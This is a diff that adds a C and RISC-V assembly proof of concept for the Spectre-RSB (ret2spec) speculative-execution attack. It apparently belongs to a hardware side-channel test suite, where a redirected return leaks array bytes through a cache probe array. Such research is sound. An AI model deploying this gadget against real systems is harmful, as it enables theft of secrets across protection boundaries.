@@ -0,0 +1,76 @@
+#include "../lib.c"
+
+#include "util_riscv.h"
+#include "cache.h"
+
+// Spectre-RSB (ret2spec): a callee replaces its own return address, so the return is predicted from the return address stack
+// to the instruction behind the call, which is never executed architecturally and encodes the secret.
+
+#include "receiver.h"
+
+/**
+ * Speculation window: the new return address is delayed by a chain of VICTIM_DELAY_LENGTH dependent divisions,
+ * as the store address of the Spectre-SSB gadget (gadget.h).
+ */
+#ifndef VICTIM_DELAY_LENGTH
+#define VICTIM_DELAY_LENGTH 4
+#endif
+#if VICTIM_DELAY_LENGTH < 1 || VICTIM_DELAY_LENGTH > 30
+#error "VICTIM_DELAY_LENGTH must be 1 to 30, 1 << VICTIM_DELAY_LENGTH has to fit in 32 bits."
+#endif
+
+#define RSB_STR_(x) #x
+#define RSB_STR(x) RSB_STR_(x)
+
+/**
+ * rsbTransmit(targetIdx, shift) calls rsbSkip, which returns to rsbReturn instead of the instruction behind the call.
+ * The lines in between compute PROBE_LINE(LEAK_SLICE(guideArray[targetIdx], shift)) and load it.
+ * In assembly, since the compiler would drop code that is never reached, and the return address has to be exact.
+ */
+void rsbTransmit(uint32_t targetIdx, uint32_t shift);
+
+asm(
+	".pushsection .text\n"
+	".align 2\n"
+	".globl rsbTransmit\n"
+	"rsbTransmit:\n"
+	"	addi sp, sp, -16\n"
+	"	sw ra, 12(sp)\n"
+	"	call rsbSkip\n"
+	// Only reached speculatively, through the return address that the call above pushed.
+	"	la t0, guideArray\n"
+	"	add t0, t0, a0\n"
+	"	lbu t0, 0(t0)\n"
+	"	srl t0, t0, a1\n"
+	"	andi t0, t0, " RSB_STR(LEAK_SLICE_VALUES - 1) "\n"
+	"	li t1, " RSB_STR(ARRAY_STRIDE) "\n"
+	"	mul t0, t0, t1\n"
+	"	la t1, probeArray + " RSB_STR(PROBE_OFFSET) "\n"
+	"	add t0, t0, t1\n"
+	"	lbu t0, 0(t0)\n"
+	"rsbReturn:\n"
+	"	lw ra, 12(sp)\n"
+	"	addi sp, sp, 16\n"
+	"	ret\n"
+	"rsbSkip:\n"
+	// ra = rsbReturn + (2^n / 2 / 2 ... / 2 - 1), i.e. rsbReturn once the divisions are done.
+	"	li t2, " RSB_STR(1 << VICTIM_DELAY_LENGTH) "\n"
+	"	li t3, 2\n"
+	"	.rept " RSB_STR(VICTIM_DELAY_LENGTH) "\n"
+	"	divu t2, t2, t3\n"
+	"	.endr\n"
+	"	addi t2, t2, -1\n"
+	"	la ra, rsbReturn\n"
+	"	add ra, ra, t2\n"
+	"	ret\n"
+	".popsection\n"
+);
+
+#define ATTACK_NAME "rsb"
+#define SENDER_TRANSMIT(targetIdx, victimIdx, shift) rsbTransmit((targetIdx), (shift))
+
+#include "leak.h"
+
+void main(){
+	leakRun();
+}